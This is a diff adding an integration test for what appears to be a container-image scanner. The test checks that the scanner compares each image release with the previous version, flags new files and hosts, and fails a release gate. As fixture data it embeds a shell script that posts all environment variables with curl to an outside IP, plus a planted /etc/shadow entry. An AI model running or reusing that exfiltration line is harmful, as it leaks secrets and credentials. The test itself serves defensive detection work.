@@ -211,4 +211,44 @@ receivers: [ { name: audit, webhook_configs: [ { url: "${sink.url}" } ] } ]
     await judged('calm/app', next);
     expect(await altogether(next)).toEqual([]);
   }, 120_000);
+
+  it('compares a version with the version before it, and announces only what that brought', async () => {
+    const tool: TarEntry = {
+      ...{ path: 'usr/local/bin/report', mode: 0o755 },
+      content: '#!/bin/sh\ncurl -s -d "$(env)" http://203.0.113.66/upload\n',
+    };
+    const leak: TarEntry = { path: 'etc/shadow', content: 'root::19000:0:99999:7:::\n', mode: 0o640 };
+    const labelled = (layer: TarEntry[]) => ({ layers: [base, layer], config: {} });
+    const before = await push(registry, 'lines/app:2.0.0', labelled([...app, leak]));
+    await judged('lines/app', before);
+    await push(registry, 'lines/app:2.0.0-slim', labelled([app[0]!]));
+    await until('the first release is announced', () => messagesAbout('lines/app').length > 0);
+    const after = await push(registry, 'lines/app:2.0.1', labelled([...app, leak, tool]));
+    const { id } = await judged('lines/app', after);
+    const baseline = { tag: '2.0.0', digest: before, reason: 'previous-version', line: '2.0' };
+    expect(await tidewaiter.api(`/pushes/${id}`)).toMatchObject({ previousDigest: null, comparedWith: baseline });
+    expect(await tidewaiter.api(`/pushes/${id}/changes`)).toMatchObject({
+      comparedWith: baseline,
+      files: {
+        total: 1,
+        items: [
+          { path: 'usr/local/bin/report', sha256Before: null, sha256After: sha256(String(tool.content)).slice(7) },
+        ],
+      },
+      hosts: { items: [{ host: '203.0.113.66' }] },
+    });
+    await until('the release is announced', () => messagesAbout('lines/app').some((text) => text.includes('"2.0.1"')));
+    const { alerts } = JSON.parse(messagesAbout('lines/app').at(-1)!) as {
+      alerts: { labels: { rule: string; new: string } }[];
+    };
+    const fresh = alerts.filter(({ labels }) => labels.new === 'true').map(({ labels }) => labels.rule);
+    expect(fresh.length).toBeGreaterThan(0);
+    expect(alerts.some(({ labels }) => labels.new === 'false')).toBe(true);
+    const asked = await tidewaiter.api<{ against: string }>('/gate', {
+      method: 'POST',
+      headers: { 'content-type': 'application/json' },
+      body: JSON.stringify({ image: `${registry.host}/lines/app:2.0.1`, failOn: 'new:high' }),
+    });
+    expect(asked).toMatchObject({ against: `${registry.host}/lines/app@${before}`, result: 'fail' });
+  }, 120_000);
 });
